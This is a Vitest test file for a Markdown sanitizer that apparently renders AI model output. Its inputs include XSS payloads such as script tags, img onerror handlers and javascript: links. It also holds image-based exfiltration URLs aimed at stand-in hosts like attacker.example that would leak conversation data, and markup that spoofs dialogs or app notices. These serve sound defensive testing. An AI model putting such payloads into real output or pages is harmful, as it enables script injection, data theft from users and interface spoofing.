// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { MODEL_OUTPUT_ALLOWED, renderMarkdown } from '../../../src/utils/markdown'
import { SPOOFING_MARKUP, beaconMarkup } from '../../fixtures/hostile-markup'

describe('renderMarkdown', () => {
  it('renders Markdown structure', () => {
    const html = renderMarkdown('# Title\n\n**bold** and `code`\n\n```js\nlet a = 1 < 2\n```\n\n3. three\n\n| a | b |\n|:-|-:|\n| 1 | 2 |')
    expect(html).toContain('<h1>Title</h1>')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('<code class="language-js">let a = 1 &lt; 2\n</code>')
    expect(html).toContain('<ol start="3">')
    expect(html).toContain('<th align="left">a</th>')
  })

  it.each([
    ['<script>window.pwned = 1</script>', /<script/i],
    ['<img src=x onerror="window.pwned = 1">', /onerror/i],
    ['[click](javascript:window.pwned=1)', /javascript:/i],
    ['<svg><script>window.pwned = 1</script></svg>', /<script/i],
    ['<a href="javascript:alert(1)">x</a>', /javascript:/i],
    ['<iframe src="https://example.com"></iframe>', /<iframe/i],
  ])('removes executable content from %s', (input, forbidden) => {
    // Raw HTML is shown as text now (issue 16): the words may stay, but no element or attribute carries them.
    const markup = parse(renderMarkdown(input)).flatMap(el => [`<${el.localName}`, ...[...el.attributes].map(a => `${a.name}=${a.value}`)])
    expect(markup.join(' ')).not.toMatch(forbidden)
  })

  it('shows HTML inside code blocks as text', () => {
    const html = renderMarkdown('```html\n<script>alert(1)</script>\n```')
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('opens links in a new tab without an opener', () => {
    expect(renderMarkdown('[docs](https://example.com)')).toContain('rel="noopener noreferrer nofollow"')
  })

  it('never loads an image: Markdown images become links, HTML images are removed', () => {
    const html = renderMarkdown('![secret <b>x</b>](https://attacker.example/?q=conversation)\n\n<img src="https://attacker.example/2">')
    expect(html).not.toMatch(/<img/i)
    expect(html).toContain('<a href="https://attacker.example/?q=conversation"')
    expect(html).toContain('[image: secret &lt;b&gt;x&lt;/b&gt;]')
  })
})

const BEACON = 'https://beacon.example/x?c=secret'

function parse(html: string): Element[] {
  const template = document.createElement('template')
  template.innerHTML = html
  return [...template.content.querySelectorAll('*')]
}

/** Every URL-bearing attribute of the HTML spec (tests/fixtures/hostile-markup.ts), in every context. */
describe('untrusted HTML never makes the browser fetch anything (issue 17 item 1)', () => {
  const cases = beaconMarkup(() => BEACON).map(m => [m] as const)

  it.each(cases)('%s keeps no fetching attribute', (input) => {
    // Raw HTML, inside a table (where the parser is most forgiving) and inside a list item.
    for (const source of [input, `<table><tr><td>${input}</td></tr></table>`, `- ${input}`]) {
      const carriers = parse(renderMarkdown(source)).flatMap(el => [...el.attributes]
        .filter(a => a.value.includes('beacon.example'))
        .map(a => `${el.localName}[${a.name}]`))
      // Only a link may point there, and a link is fetched only when the person clicks it.
      expect(carriers.filter(c => c !== 'a[href]')).toEqual([])
    }
  })

  it('keeps only listed attributes on listed elements, whatever the input', () => {
    const everything = beaconMarkup(() => BEACON).join('\n')
    for (const el of parse(renderMarkdown(everything))) {
      expect(Object.keys(MODEL_OUTPUT_ALLOWED)).toContain(el.localName)
      const extra = [...el.attributes].map(a => a.name).filter(n => !MODEL_OUTPUT_ALLOWED[el.localName]!.includes(n) && !(el.localName === 'a' && ['target', 'rel'].includes(n)))
      expect(extra, el.outerHTML).toEqual([])
    }
  })
})

describe('untrusted HTML cannot draw dialogs, popovers, forms or app-looking notices (issue 17 item 6)', () => {
  it.each(SPOOFING_MARKUP)('%s', (input) => {
    const out = parse(renderMarkdown(input))
    expect(out.map(el => el.localName).filter(tag => !(tag in MODEL_OUTPUT_ALLOWED))).toEqual([])
    const attributes = out.flatMap(el => [...el.attributes].map(a => `${el.localName}[${a.name}]`))
    expect(attributes.filter(a => !/^a\[(href|target|rel)\]$/.test(a))).toEqual([])
  })

  it('keeps the code block language class and no other class on any element', () => {
    expect(renderMarkdown('```ts\nx\n```')).toContain('<code class="language-ts">')
    for (const input of ['<code class="error-notice">x</code>', '<code class="language-ts error-notice">x</code>', '```ts error-notice\nx\n```']) {
      const classes = parse(renderMarkdown(input)).map(el => el.getAttribute('class')).filter(c => c !== null)
      expect(classes.filter(c => c !== 'language-ts'), input).toEqual([])
    }
  })

  it('keeps the text of a removed element, so nothing the model wrote is hidden', () => {
    expect(renderMarkdown('<dialog open>Sign in again</dialog>')).toContain('Sign in again')
  })
})

describe('raw HTML in model text is shown as text, never parsed (issue 16 item 4)', () => {
  it.each([
    ['Use `Vec<String>` or Vec<String> here', 'Vec&lt;String&gt; here'],
    ['<dialog open>Sign in again</dialog>', '<p>&lt;dialog open&gt;Sign in again&lt;/dialog&gt;</p>'],
    ['<div>\n*not emphasis*\n</div>', '<p>&lt;div&gt;\n*not emphasis*\n&lt;/div&gt;</p>'],
    ['a <b>bold</b> claim', '<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>'],
  ])('%s', (input, shown) => {
    const html = renderMarkdown(input)
    expect(html).toContain(shown)
    expect(parse(html).map(el => el.localName).filter(t => !['p', 'code'].includes(t))).toEqual([])
  })

  it('keeps autolinks and Markdown links, which are not HTML', () => {
    expect(renderMarkdown('<https://example.com>')).toContain('<a href="https://example.com"')
  })

  it('still renders HTML in the app\'s own guides (trusted)', () => {
    expect(renderMarkdown('<kbd>Ctrl</kbd> and <details><summary>More</summary>text</details>', { isOwnGuide: true })).toContain('<kbd>Ctrl</kbd>')
  })
})

describe('the help guides (trusted, bundled) keep their images', () => {
  it('keeps img src and alt but nothing else', () => {
    const html = renderMarkdown('![shot](images/app.png)\n\n<img src="a.png" srcset="b.png 2x" class="x">', { isOwnGuide: true })
    expect(html).toContain('<img src="images/app.png" alt="shot">')
    expect(html).not.toMatch(/srcset|class/)
  })
})
